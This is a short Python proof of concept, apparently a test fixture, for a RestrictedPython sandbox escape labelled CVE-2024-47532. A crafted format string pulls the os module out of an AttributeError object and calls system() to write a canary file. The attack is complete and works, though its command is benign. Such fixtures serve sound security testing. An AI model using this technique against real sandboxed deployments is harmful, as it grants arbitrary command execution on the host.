# source: RestrictedPython CVE-2024-47532
# effect: process

import random

template = "{0.*globals*[_os].missing}".replace("*", "__")
try:
    list(map(template.format, [random.Random.seed]))
except AttributeError as error:
    print(error.obj.system("echo attribute_errors/obj_of_mapped_template > /tmp/canary/process"))
